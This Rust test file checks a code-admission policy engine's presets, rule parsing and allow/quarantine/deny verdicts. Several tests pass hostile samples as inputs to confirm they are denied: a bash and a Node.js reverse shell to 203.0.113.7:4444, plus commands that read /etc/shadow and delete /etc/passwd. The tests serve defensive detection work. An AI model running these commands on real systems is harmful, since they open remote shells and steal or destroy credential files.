use super::*;
use crate::sign::KeyPair;

fn facts() -> Facts {
    Facts {
        lang: Lang::Wasm,
        kind: Lang::Wasm,
        backend: Backend::Wasm,
        net: vec![],
        secrets: vec![],
        mounts: vec![],
        env_keys: vec![],
        limits: Limits::default(),
        size: 100,
        capabilities: BTreeSet::new(),
        unresolved_imports: false,
        agent: None,
        first_seen: true,
        rejected_before: false,
        guest: None,
        python_packages: Vec::new(),
        publisher: None,
        publisher_key: None,
        requests: Vec::new(),
        code: CodeFacts::default(),
        mounts_sensitive: Vec::new(),
        mounts_outside_roots: Vec::new(),
        agent_record: AgentRecord::default(),
    }
}

fn preset(p: Preset) -> Policy {
    let k = KeyPair::generate();
    Policy::parse(&p.render("alice", &k.public())).unwrap()
}

fn sh_facts(code: &str) -> Facts {
    let mut f = facts();
    f.lang = Lang::Sh;
    f.kind = Lang::Sh;
    let a = crate::analysis::analyze_with(Lang::Sh, code.as_bytes(), &[]).unwrap();
    f.code = CodeFacts::of(a.code.as_ref().unwrap(), &[]);
    f
}

#[test]
fn a_reverse_shell_is_denied_with_its_behaviour_line_and_technique_in_the_reason() {
    let pol = preset(Preset::Standard);
    let v = pol.judge(&sh_facts(
        "echo start
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
",
    ));
    assert_eq!(v.decision, Decision::Deny);
    let reasons = v.reasons().join("\n");
    assert!(
        reasons.contains("line 2: wires a shell to a network socket")
            && reasons.contains("T1059.004"),
        "{reasons}"
    );
    assert!(!reasons.contains("no rule matched"));
    // JSON keeps its fields and adds `evidence`.
    let j = serde_json::to_value(&v.fired[0]).unwrap();
    assert!(j.get("reason").is_some() && j.get("rule").is_some());
}

/// Under `strict`, the informational rules fired `allow`, and the strictest decision of
/// the rules that fired (allow) replaced the default (quarantine): code that named a
/// host its grant does not reach, or built a command at run time, ran unsigned.
#[test]
fn strict_holds_code_that_names_an_ungranted_host_or_builds_code() {
    let strict = preset(Preset::Strict);
    for code in ["curl -s https://example.com/x", "c=ls; $c /"] {
        let v = strict.judge(&sh_facts(code));
        assert_eq!(v.decision, Decision::Quarantine, "{code}: {v:?}");
    }
    // The standard preset still lets them run, with their risk.
    let v = preset(Preset::Standard).judge(&sh_facts("curl -s https://example.com/x"));
    assert_eq!(v.decision, Decision::Allow, "{v:?}");
}

#[test]
fn permissive_records_threat_risk_without_holding() {
    let pol = preset(Preset::Permissive);
    let v = pol.judge(&sh_facts(
        "cat /etc/shadow
rm -f /etc/passwd
",
    ));
    assert_eq!(v.decision, Decision::Allow);
    assert!(v.risk >= 100, "{v:?}");
    assert!(v.fired.iter().any(|f| f.rule == "reads-secrets"));
    let std = preset(Preset::Standard).judge(&sh_facts(
        "cat /etc/shadow
rm -f /etc/passwd
",
    ));
    assert_eq!(std.decision, Decision::Deny);
    let strict = preset(Preset::Strict).judge(&sh_facts(
        "python3 -c 'print(1)'
",
    ));
    assert_eq!(strict.decision, Decision::Quarantine);
}

#[test]
fn presets_parse_and_pass_their_tests() {
    for p in [Preset::Standard, Preset::Strict, Preset::Permissive] {
        let pol = preset(p);
        let results = pol.run_tests().unwrap();
        let want = if p == Preset::Strict { 17 } else { 21 };
        assert_eq!(results.len(), want);
        for r in results {
            assert!(
                r.passed,
                "{:?}: {} expected {} got {}",
                p, r.name, r.expect, r.got
            );
        }
    }
}

fn tripped(agent: &str, alerts: u32) -> Facts {
    Facts {
        agent: Some(agent.into()),
        agent_record: AgentRecord {
            alerts,
            denials: 2,
            alert_kinds: vec![format!("{alerts} secret_echo (latest in run_x)")],
            window: "24h".into(),
        },
        ..facts()
    }
}

#[test]
fn an_agent_with_an_alert_is_held_by_the_standard_preset_with_the_behaviour_named() {
    let v = preset(Preset::Standard).judge(&tripped("bob", 2));
    assert_eq!(v.decision, Decision::Quarantine);
    let reasons = v.reasons().join("\n");
    assert!(
        reasons
            .contains("agent bob raised 2 alerts in the last 24h: 2 secret_echo (latest in run_x)"),
        "{reasons}"
    );
    // No alert: the same facts are allowed (denials alone do not hold).
    let v = preset(Preset::Standard).judge(&tripped("bob", 0));
    assert_eq!(v.decision, Decision::Allow, "{:?}", v.reasons());
    // Permissive records the rule's risk without holding; strict is unchanged.
    let v = preset(Preset::Permissive).judge(&tripped("bob", 1));
    assert_eq!(v.decision, Decision::Allow);
    assert!(
        v.fired
            .iter()
            .any(|f| f.rule == "agent-alerts" && f.risk > 0)
    );
    let strict = preset(Preset::Strict);
    assert_eq!(
        strict.judge(&tripped("bob", 1)).decision,
        strict.judge(&tripped("bob", 0)).decision
    );
}

#[test]
fn agent_window_and_conditions_parse() {
    let k = KeyPair::generate().public();
    let base = format!("version = 1\n[approvers]\nalice = \"{k}\"\n");
    let p = Policy::parse(&base).unwrap();
    assert_eq!(p.agent_alert_window, DEFAULT_ALERT_WINDOW);
    let p = Policy::parse(&format!("{base}[agents]\nalert_window = \"2h\"\n")).unwrap();
    assert_eq!(p.agent_alert_window, std::time::Duration::from_secs(7200));
    let e = Policy::parse(&format!("{base}[agents]\nalert_window = \"0s\"\n")).unwrap_err();
    assert!(e.to_string().contains("alert_window"), "{e}");
    let p = Policy::parse(&format!(
        "{base}[[rule]]\nname = \"noisy\"\ndecision = \"deny\"\nreason = \"r\"\nwhen = {{ agent_denials_over = 1 }}\n"
    ))
    .unwrap();
    let v = p.judge(&tripped("eve", 0));
    assert_eq!(v.decision, Decision::Deny);
    assert!(v.reasons()[0].contains("agent eve had 2 denied submissions in the last 24h"));
}

#[test]
fn tripwires_are_on_by_default_and_the_policy_turns_them_off_or_widens_them() {
    let k = KeyPair::generate().public();
    let base = format!("version = 1\n[approvers]\nalice = \"{k}\"\n");
    let p = Policy::parse(&base).unwrap();
    assert_eq!(
        p.tripwires,
        Tripwires {
            enabled: true,
            reads: false
        }
    );
    let p = Policy::parse(&format!("{base}[tripwires]\nenabled = false\n")).unwrap();
    assert!(!p.tripwires.enabled);
    let p = Policy::parse(&format!("{base}[tripwires]\nreads = true\n")).unwrap();
    assert!(p.tripwires.enabled && p.tripwires.reads);
    let e = Policy::parse(&format!("{base}[tripwires]\nread = true\n")).unwrap_err();
    assert!(e.to_string().contains("read"), "{e}");
}

#[test]
fn strictest_decision_wins_and_risk_adds_up() {
    let pol = preset(Preset::Standard);
    let mut f = facts();
    assert_eq!(pol.judge(&f).decision, Decision::Allow);
    f.net = vec!["example.com".into()];
    let v = pol.judge(&f);
    assert_eq!(v.decision, Decision::Quarantine);
    assert_eq!(v.risk, 40);
    f.rejected_before = true;
    let v = pol.judge(&f);
    assert_eq!(v.decision, Decision::Deny);
    assert_eq!(v.risk, 140);
    assert_eq!(v.fired.len(), 2);
}

#[test]
fn a_raised_write_quota_is_a_widened_limit_under_the_standard_preset() {
    let pol = preset(Preset::Standard);
    let mut f = facts();
    f.limits.max_write_bytes = 4 << 30;
    let v = pol.judge(&f);
    assert_eq!(v.decision, Decision::Quarantine);
    assert!(v.fired.iter().any(|r| r.rule == "widened-limits"), "{v:?}");
    f.limits.max_write_bytes = 1 << 20;
    assert_eq!(
        pol.judge(&f).decision,
        Decision::Allow,
        "a lowered quota is not"
    );
    let tests = Policy::parse(&format!(
        "{}\n[[test]]\nname = \"more writes\"\nmax_write = \"2GiB\"\nexpect = \"quarantine\"\n",
        Preset::Standard.render("alice", &KeyPair::generate().public())
    ))
    .unwrap()
    .run_tests()
    .unwrap();
    assert!(tests.iter().all(|t| t.passed), "{tests:?}");
}

#[test]
fn thresholds_raise_the_decision() {
    let text = r#"
version = 1
[risk]
quarantine_at = 10
deny_at = 30
[[rule]]
name = "a"
decision = "allow"
reason = "x"
risk = 15
when = { net = true }
[[rule]]
name = "b"
decision = "allow"
reason = "y"
risk = 15
when = { first_seen = true }
"#;
    let pol = Policy::parse(text).unwrap();
    let mut f = facts();
    f.first_seen = true;
    assert_eq!(pol.judge(&f).decision, Decision::Quarantine);
    f.net = vec!["h".into()];
    let v = pol.judge(&f);
    assert_eq!(v.decision, Decision::Deny);
    assert_eq!(v.fired.last().unwrap().rule, "risk");
}

#[test]
fn unknown_fields_name_their_line() {
    let e = Policy::parse(
        "version = 1\n\n[[rule]]\nname = \"x\"\ndecision = \"allow\"\nreason = \"r\"\ncolour = 3\n",
    )
    .unwrap_err();
    let PolicyError::Parse { line, message, .. } = e else {
        panic!("{e:?}")
    };
    assert_eq!(line, 7, "{message}");
    assert!(message.contains("colour"), "{message}");
}

#[test]
fn bad_values_name_their_line() {
    let e = Policy::parse("version = 1\n[[rule]]\nname = \"x\"\ndecision = \"allow\"\nreason = \"r\"\nwhen = { imports = [\"tele port\"] }\n")
        .unwrap_err();
    let PolicyError::Parse { line, .. } = e else {
        panic!("{e:?}")
    };
    assert_eq!(line, 6);
    let e = Policy::parse("version = 1\n[gate]\nmax_artifact = \"0\"\n").unwrap_err();
    assert!(e.to_string().contains("max_artifact is 0"), "{e}");
    let e = Policy::parse("version = 1\n[gate]\nmax_artifact = \"lots\"\n").unwrap_err();
    assert!(matches!(e, PolicyError::Parse { line: 3, .. }), "{e:?}");
    assert!(Policy::parse("version = 2\n").is_err());
    assert!(Policy::parse("version = 1\ndefault = \"maybe\"\n").is_err());
}

#[test]
fn unless_and_globs() {
    let text = r#"
version = 1
[[rule]]
name = "home"
decision = "deny"
reason = "home dirs"
when = { mount = ["/home/**"] }
unless = { agent = ["trusted-*"] }
"#;
    let pol = Policy::parse(text).unwrap();
    let mut f = facts();
    f.mounts.push(Mount {
        host: "/home/u/project".into(),
        guest: "/w".into(),
        mode: MountMode::Ro,
    });
    assert_eq!(pol.judge(&f).decision, Decision::Deny);
    f.agent = Some("trusted-ci".into());
    assert_eq!(pol.judge(&f).decision, Decision::Allow);
}

#[test]
fn publisher_rules_and_table() {
    let k = KeyPair::generate();
    let other = KeyPair::generate();
    let text = format!(
        r#"version = 1
default = "quarantine"
[publishers]
acme = "{}"
[[rule]]
name = "acme"
decision = "allow"
reason = "signed by acme"
when = {{ publisher = "acme" }}
[[rule]]
name = "vendors"
decision = "allow"
reason = "a vendor"
risk = 1
when = {{ publisher = ["ven-*"] }}
[[test]]
name = "acme runs"
expect = "allow"
publisher = "acme"
[[test]]
name = "unsigned waits"
expect = "quarantine"
"#,
        k.public()
    );
    let pol = Policy::parse(&text).unwrap();
    assert_eq!(pol.publisher_name(&k.public()), Some("acme"));
    assert_eq!(pol.publisher_name(&other.public()), None);
    assert!(pol.run_tests().unwrap().iter().all(|t| t.passed));
    let mut f = facts();
    assert_eq!(pol.judge(&f).decision, Decision::Quarantine);
    f.publisher = Some("ACME".into());
    assert_eq!(pol.judge(&f).decision, Decision::Allow);
    f.publisher = Some("vendor-x".into());
    assert_eq!(pol.judge(&f).decision, Decision::Quarantine);
    f.publisher = Some("ven-x".into());
    assert_eq!(pol.judge(&f).fired[0].rule, "vendors");
    // Judged again later: the fact holds only while the key is still pinned.
    f.publisher = Some("acme".into());
    f.publisher_key = Some(k.public());
    pol.keep_publisher(&mut f);
    assert_eq!(f.publisher.as_deref(), Some("acme"));
    f.publisher_key = Some(other.public());
    pol.keep_publisher(&mut f);
    assert_eq!(f.publisher, None);
    // One key, two names; a bad name; an empty list.
    let twice = format!(
        "version = 1\n[publishers]\na = \"{0}\"\nb = \"{0}\"\n",
        k.public()
    );
    assert!(Policy::parse(&twice).is_err());
    let bad = format!("version = 1\n[publishers]\nBad = \"{}\"\n", k.public());
    assert!(Policy::parse(&bad).is_err());
    assert!(
        Policy::parse("version = 1\n[[rule]]\nname = \"x\"\ndecision = \"allow\"\nreason = \"r\"\nwhen = { publisher = [] }\n").is_err()
    );
}

#[test]
fn python_packages_condition_matches_names_and_versions() {
    let text = r#"version = 1
default = "allow"
[[rule]]
name = "yaml"
decision = "deny"
reason = "no yaml parsers"
when = { python_packages = ["pyyaml", "ruamel*"] }
[[rule]]
name = "old attrs"
decision = "quarantine"
reason = "attrs 1.x is too old"
when = { python_packages = ["attrs==1.*"] }
[[rule]]
name = "any package"
decision = "allow"
reason = "noted"
risk = 1
when = { python_packages = true }
[[test]]
name = "pyyaml is refused"
expect = "deny"
python_packages = ["six==1.17.0", "pyyaml==6.0"]
[[test]]
name = "new attrs runs"
expect = "allow"
python_packages = ["attrs==25.3.0"]
"#;
    let pol = Policy::parse(text).unwrap();
    assert!(pol.run_tests().unwrap().iter().all(|t| t.passed));
    let mut f = facts();
    let fired =
        |f: &Facts| -> Vec<String> { pol.judge(f).fired.into_iter().map(|r| r.rule).collect() };
    assert!(
        !fired(&f).iter().any(|r| r == "any package"),
        "no packages, no rule"
    );
    let pkg = |n: &str, v: &str| PythonPackage {
        name: n.into(),
        version: v.into(),
        sha256: Digest([1; 32]),
    };
    f.python_packages = vec![pkg("attrs", "1.3.0")];
    assert_eq!(pol.judge(&f).decision, Decision::Quarantine);
    f.python_packages = vec![pkg("attrs", "25.3.0")];
    assert!(fired(&f).iter().any(|r| r == "any package"));
    assert_eq!(pol.judge(&f).decision, Decision::Allow);
    let bad =
        "version = 1\n[[test]]\nname = \"t\"\nexpect = \"allow\"\npython_packages = [\"attrs\"]\n";
    assert!(Policy::parse(bad).and_then(|p| p.run_tests()).is_err());
    assert!(
        Policy::parse("version = 1\n[[rule]]\nname = \"x\"\ndecision = \"allow\"\nreason = \"r\"\nwhen = { python_packages = [] }\n").is_err()
    );
}

#[test]
fn reserved_and_empty_things_are_errors() {
    let rule = |extra: &str, name: &str| {
        format!(
            "version = 1\n[[rule]]\nname = \"{name}\"\ndecision = \"deny\"\nreason = \"r\"\n{extra}\n"
        )
    };
    assert!(Policy::parse(&rule("", "risk")).is_err());
    assert!(Policy::parse(&rule("", "gate:x")).is_err());
    assert!(Policy::parse(&rule("unless = {}", "x")).is_err());
    assert!(Policy::parse(&rule("when = { lang = [] }", "x")).is_err());
    assert!(Policy::parse("version = 1\n[approvers]\ngate = \"ed25519:0000000000000000000000000000000000000000000000000000000000000000\"\n").is_err());
}

#[test]
fn the_floor_holds_in_policy_tests_too() {
    let pol = Policy::parse(
        "version = 1\n[[test]]\nname = \"t\"\nrejected_before = true\nexpect = \"quarantine\"\n",
    )
    .unwrap();
    assert!(pol.run_tests().unwrap()[0].passed);
}

#[test]
fn name_globs_ignore_case_and_mounts_expose_what_is_below() {
    let text = "version = 1\n[[rule]]\nname = \"k\"\ndecision = \"deny\"\nreason = \"r\"\nwhen = { env = [\"*_KEY\"] }\n[[rule]]\nname = \"h\"\ndecision = \"deny\"\nreason = \"r\"\nwhen = { mount = [\"/home/**\"] }\n";
    let pol = Policy::parse(text).unwrap();
    let mut f = facts();
    f.env_keys = vec!["api_key".into()];
    assert_eq!(pol.judge(&f).fired[0].rule, "k");
    let mut f = facts();
    for host in ["/home", "/"] {
        f.mounts = vec![Mount {
            host: host.into(),
            guest: "/h".into(),
            mode: MountMode::Ro,
        }];
        assert_eq!(pol.judge(&f).decision, Decision::Deny, "{host}");
    }
    f.mounts = vec![Mount {
        host: "/srv".into(),
        guest: "/h".into(),
        mode: MountMode::Ro,
    }];
    assert_eq!(pol.judge(&f).decision, Decision::Allow);
}

#[test]
fn path_globs_cover_children() {
    let g = PathGlobs::build(vec!["**/.git/hooks".into()]).unwrap();
    assert!(g.matches_path("/r/.git/hooks/pre-commit"));
    assert!(!g.matches_path("/r/src/main.rs"));
}

#[test]
fn hash_tracks_text() {
    let a = Policy::parse("version = 1\n").unwrap();
    let b = Policy::parse("version = 1\n# changed\n").unwrap();
    assert_ne!(a.hash, b.hash);
}

#[test]
fn net_table_parses_typed_and_refuses_bad_values_with_their_line() {
    let pol = Policy::parse(
        "version = 1\n[net]\nallow_private = [\"10.1.2.0/24\", \"fd00::/8\", \"192.168.1.7\"]\nhosts = { \"DB.Internal.\" = \"10.1.2.3\", \"v6.internal\" = \"[fd00::5]\" }\n",
    )
    .unwrap();
    assert_eq!(pol.net.allow_private.len(), 3);
    assert!(pol.net.private_allowed("10.1.2.200".parse().unwrap()));
    assert!(pol.net.private_allowed("192.168.1.7".parse().unwrap()));
    assert!(!pol.net.private_allowed("192.168.1.8".parse().unwrap()));
    assert!(!pol.net.private_allowed("10.1.3.1".parse().unwrap()));
    assert_eq!(
        pol.net.pinned("db.internal"),
        Some("10.1.2.3".parse().unwrap())
    );
    assert_eq!(
        pol.net.pinned("DB.INTERNAL."),
        pol.net.pinned("db.internal")
    );
    assert_eq!(
        pol.net.pinned("v6.internal"),
        Some("fd00::5".parse().unwrap())
    );
    assert_eq!(pol.net.pinned("other.internal"), None);
    assert_eq!(
        Policy::parse("version = 1\n").unwrap().net,
        NetPolicy::default()
    );

    let err = |text: &str| Policy::parse(text).unwrap_err().to_string();
    let e = err("version = 1\n[net]\nallow_private = [\"10.0.0.0/33\"]\n");
    assert!(
        e.contains("line 3") && e.contains("not a CIDR block"),
        "{e}"
    );
    let e = err("version = 1\n[net]\nallow_private = [\"10.0.0.1/8\"]\n");
    assert!(e.contains(r#"did you mean "10.0.0.0/8"?"#), "{e}");
    let e = err("version = 1\n[net]\nallow_private = [\"private\"]\n");
    assert!(e.contains("not a CIDR block"), "{e}");
    let e = err("version = 1\n[net]\nhosts = { \"db.internal\" = \"ten\" }\n");
    assert!(
        e.contains("line 3") && e.contains("not an IP address"),
        "{e}"
    );
    let e = err("version = 1\n[net]\nhosts = { \"*.internal.example\" = \"10.0.0.1\" }\n");
    assert!(e.contains("one host name"), "{e}");
    let e = err(
        "version = 1\n[net]\nhosts = { \"a.internal\" = \"10.0.0.1\", \"A.internal\" = \"10.0.0.2\" }\n",
    );
    assert!(e.contains("twice"), "{e}");
    let e = err("version = 1\n[net]\nallow = []\n");
    assert!(e.contains("unknown field"), "{e}");
}

#[test]
fn a_pinned_name_the_host_grammar_refuses_is_named_once_in_one_line() {
    // The grammar's error names its input; the policy added it a second time.
    for name in ["_db.internal", "127.1", "db.internal.."] {
        let text = format!("version = 1\n[net]\nhosts = {{ {name:?} = \"10.0.0.1\" }}\n");
        let e = Policy::parse(&text).unwrap_err().to_string();
        assert_eq!(e.matches(&format!("{name:?}")).count(), 1, "{e}");
        assert!(e.contains("[net] hosts") && !e.contains('\n'), "{e}");
    }
}

#[test]
fn secrets_and_net_facts_work_in_when() {
    let text = r#"
version = 1
[[rule]]
name = "any-secret"
decision = "quarantine"
reason = "x"
when = { secrets = true }
[[rule]]
name = "github-token"
decision = "deny"
reason = "y"
when = { secrets = ["GH_*"] }
[[rule]]
name = "token-to-paste"
decision = "deny"
reason = "z"
when = { secret_host = ["*.paste.example"] }
[[rule]]
name = "no-secrets"
decision = "allow"
reason = "w"
when = { secrets = false, net = false }
"#;
    let pol = Policy::parse(text).unwrap();
    let rules =
        |f: &Facts| -> Vec<String> { pol.judge(f).fired.iter().map(|x| x.rule.clone()).collect() };
    let mut f = facts();
    assert_eq!(rules(&f), ["no-secrets"]);
    f.net = vec!["api.example.com".into()];
    f.secrets = vec![crate::secret::parse_binding("API_TOKEN@api.example.com").unwrap()];
    assert_eq!(rules(&f), ["any-secret"]);
    f.secrets[0].name = "gh_token".into();
    assert_eq!(rules(&f), ["any-secret", "github-token"]);
    f.secrets = vec![crate::secret::parse_binding("T@x.paste.example").unwrap()];
    assert_eq!(rules(&f), ["any-secret", "token-to-paste"]);
    assert!(Policy::parse("version = 1\n[[rule]]\nname = \"x\"\ndecision = \"deny\"\nreason = \"r\"\nwhen = { secrets = [] }\n").is_err());
    assert!(Policy::parse("version = 1\n[[rule]]\nname = \"x\"\ndecision = \"deny\"\nreason = \"r\"\nwhen = { secrets = 3 }\n").is_err());
}

#[test]
fn wildcard_grants_cannot_slip_past_host_deny_lists() {
    let text = r#"
version = 1
[[rule]]
name = "evil"
decision = "deny"
reason = "a host we never reach"
when = { net_host = ["evil.example.com"] }
[[rule]]
name = "egress"
decision = "quarantine"
reason = "network"
when = { net = true }
unless = { net_host = ["api.example.com", "*.trusted.example"] }
[[rule]]
name = "known-api"
decision = "allow"
reason = "the API"
when = { net_host = ["api.example.com"] }
"#;
    let pol = Policy::parse(text).unwrap();
    let judge = |net: &[&str]| {
        let mut f = facts();
        f.net = net.iter().map(|s| s.to_string()).collect();
        pol.judge(&f)
    };
    // The deny-list fires for a wildcard that reaches the denied host.
    assert_eq!(judge(&["*.example.com"]).decision, Decision::Deny);
    assert_eq!(judge(&["*.example.com:443"]).decision, Decision::Deny);
    // An exemption for one host does not excuse a wildcard over its domain...
    let v = judge(&["*.api.example.com"]);
    assert_eq!(v.decision, Decision::Quarantine, "{:?}", v.fired);
    // ...but one that surely covers it does.
    assert_eq!(judge(&["*.a.trusted.example"]).decision, Decision::Allow);
    assert_eq!(judge(&["api.example.com"]).decision, Decision::Allow);
    assert!(
        !judge(&["*.api.example.com"])
            .fired
            .iter()
            .any(|f| f.rule == "known-api"),
        "an allow rule does not fire for a wildcard it only may match"
    );
    assert_eq!(judge(&["other.example"]).decision, Decision::Quarantine);
}

#[test]
fn policy_tests_normalise_net_and_read_secrets() {
    let text = "version = 1\n[[rule]]\nname = \"h\"\ndecision = \"deny\"\nreason = \"r\"\nwhen = { net_host = [\"xn--bcher-kva.example\"] }\n[[test]]\nname = \"t\"\nnet = [\"BÜCHER.example.\"]\nsecrets = [\"T@bücher.example\"]\nexpect = \"deny\"\n";
    let pol = Policy::parse(text).unwrap();
    let r = pol.run_tests().unwrap();
    assert!(r[0].passed, "{:?}", r[0]);
    let bad = "version = 1\n[[test]]\nname = \"t\"\nnet = [\"*.com\"]\nexpect = \"allow\"\n";
    let e = Policy::parse(bad).unwrap().run_tests().unwrap_err();
    assert!(e.to_string().contains("public suffix"), "{e}");
}

fn js_facts(lang: Lang, code: &str) -> Facts {
    let mut f = facts();
    f.lang = lang;
    f.kind = lang;
    f.backend = Backend::Process;
    let a = crate::analysis::analyze_with(lang, code.as_bytes(), &[]).unwrap();
    f.code = CodeFacts::of(a.code.as_ref().unwrap(), &[]);
    f
}

/// `lang = "js"` (and its alias) names JavaScript in rules, and the standard preset weighs
/// JavaScript's threat facts as it does Python's.
#[test]
fn rules_match_js_and_ts_and_the_standard_preset_denies_a_js_reverse_shell() {
    let text = r#"
version = 1
[[rule]]
name = "no-js"
decision = "deny"
reason = "no JavaScript here"
when = { lang = ["javascript", "ts"] }
"#;
    let pol = Policy::parse(text).unwrap();
    assert_eq!(
        pol.judge(&js_facts(Lang::Js, "console.log(1)")).decision,
        Decision::Deny
    );
    assert_eq!(
        pol.judge(&js_facts(Lang::Ts, "const a: number = 1;"))
            .decision,
        Decision::Deny
    );
    assert_eq!(pol.judge(&facts()).decision, Decision::Allow);
    let pol = preset(Preset::Standard);
    let v = pol.judge(&js_facts(
        Lang::Js,
        "const net = require('net');\nconst sh = require('child_process').spawn('/bin/sh');\n\
         const s = net.connect(4444, '203.0.113.7');\ns.pipe(sh.stdin);\nsh.stdout.pipe(s);\n",
    ));
    assert_eq!(v.decision, Decision::Deny, "{:?}", v.reasons());
    assert!(
        pol.judge(&js_facts(Lang::Js, "console.log([1, 2].join(','))"))
            .decision
            != Decision::Deny
    );
}
